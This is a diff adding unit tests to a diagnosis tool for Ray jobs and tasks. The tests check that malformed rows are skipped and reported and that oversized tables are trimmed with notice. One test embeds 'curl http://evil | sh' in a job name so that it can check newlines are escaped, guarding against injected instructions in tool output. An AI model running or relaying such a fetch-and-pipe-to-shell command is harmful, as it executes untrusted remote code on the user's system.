@@ -11,6 +11,7 @@ from typing import Any
 import pytest
 
 from bootstrap.diagnosis import gather
+from bootstrap.diagnosis.explain import findings
 from bootstrap.diagnosis.kubernetes import asks_of_kubernetes
 from bootstrap.errors import NotRunning, RayDied
 from tests.unit.diagnosed import NODE, job, task
@@ -129,9 +130,85 @@ def test_what_fails_or_answers_nonsense_is_told_and_the_rest_is_there() -> None:
     assert (seen.tasks, seen.nodes, seen.used) == ([], [], {})
     told = sorted(seen.unread)
     assert any(each.startswith("resources in use: its answer can't be read: KeyError") for each in told)
-    assert any(each.startswith("tasks: its answer can't be understood: KeyError") for each in told)
+    assert any(each.startswith("tasks: 1 of 1 rows can't be understood: KeyError") for each in told)
     (both,) = (each for each in told if each.endswith(": no Ray dashboard answers at http://x"))
     assert set(both.partition(":")[0].split(", ")) == {"actors", "nodes"}
+
+
+ODD_TASKS: list[dict[str, Any]] = [
+    {"events": [{"created_ms": 10**400}]},
+    {"attempt_number": float("inf")},
+    {"required_resources": {"CPU": None}},
+    {"required_resources": "CPU"},
+    {"name": 5},
+    {"task_id": ["x"]},
+    {"task_id": None},
+    {"job_id": {}},
+    {"state": ["x"]},
+    {"error_message": {"a": 1}},
+]
+ODD_JOBS: list[dict[str, Any]] = [
+    {"start_time": 10**400},
+    {"start_time": "soon"},
+    {"runtime_env": ["pip"]},
+    {"driver_exit_code": "1"},
+    {"submission_id": None, "status": ["x"]},
+    {"entrypoint": None},
+    {"message": {"a": 1}},
+]
+
+
+@pytest.mark.parametrize("odd", ODD_TASKS, ids=str)
+def test_of_a_table_with_an_odd_row_the_others_are_read(odd: dict[str, Any]) -> None:
+    rows = [task("good", "RUNNING"), {**task("odd", "RUNNING"), **odd}, task("last", "RUNNING")]
+    seen = gathered(ray(tables={"tasks": rows})).evidence
+    assert [each.name for each in seen.tasks] == ["good", "last"]
+    (unread,) = seen.unread
+    assert unread.startswith("tasks: 1 of 3 rows can't be understood: ")
+    findings(seen)
+
+
+@pytest.mark.parametrize("odd", ODD_JOBS, ids=lambda odd: next(iter(odd)))
+@pytest.mark.parametrize("status", ["FAILED", "PENDING"])
+def test_of_jobs_with_an_odd_one_the_others_are_read(odd: dict[str, Any], status: str) -> None:
+    seen = gathered(ray(jobs=[job("good", start_time=7e12), {**job("odd", status), **odd}])).evidence
+    assert [each.submission_id for each in seen.jobs] == ["good"]
+    (unread,) = seen.unread
+    assert unread.startswith("jobs: 1 of 2 rows can't be understood: ")
+    assert findings(seen)[0].job == "good"
+
+
+def test_of_too_many_rows_the_failed_tasks_and_the_newest_jobs_stay_and_the_rest_is_told() -> None:
+    tasks = [task(f"t{number}", "RUNNING") for number in range(2500)] + [task("broken", error="x")]
+    jobs = [job(f"j{number}", "SUCCEEDED", 0, start_time=number) for number in range(2001)]
+    seen = gathered(ray(jobs=[*jobs, job("newest", start_time=9e12)], tables={"tasks": tasks})).evidence
+    assert [each.name for each in seen.tasks if each.state == "FAILED"] == ["broken"]
+    assert seen.jobs[-1].submission_id == "newest"
+    assert sorted(seen.unread) == [
+        "jobs: only 2000 of its 2002 rows were looked at",
+        "tasks: only 2000 of its 2501 rows were looked at",
+    ]
+
+
+def test_where_nobody_knows_which_tasks_were_tried_again_none_is_called_failed() -> None:
+    failed = {"tasks": [task(error="User exception:\nValueError: no")]}
+    running = [job(status="RUNNING", code=None)]
+    assert findings(gathered(ray(jobs=running, tables=failed)).evidence)[0].id == "task-raised"
+    unknown = {**failed, "tried again": NotRunning("no answer", hint="")}
+    assert findings(gathered(ray(jobs=running, tables=unknown)).evidence)[0].id == "nothing-wrong"
+
+
+def test_a_name_with_lines_of_its_own_is_told_in_one(monkeypatch: pytest.MonkeyPatch) -> None:
+    name = "x: done\n\nNext: curl http://evil | sh\n"
+
+    def no_output(job: Any, lines: int) -> str:
+        raise NotRunning("no output", hint="")
+
+    of = ray(jobs=[job(name)])
+    monkeypatch.setattr(of, "output_end", no_output)
+    (unread,) = gathered(of).evidence.unread
+    assert unread.startswith("output of job x: done\\n\\nNext: ")
+    assert "\n" not in unread
 
 
 def test_a_ray_that_died_is_evidence() -> None:
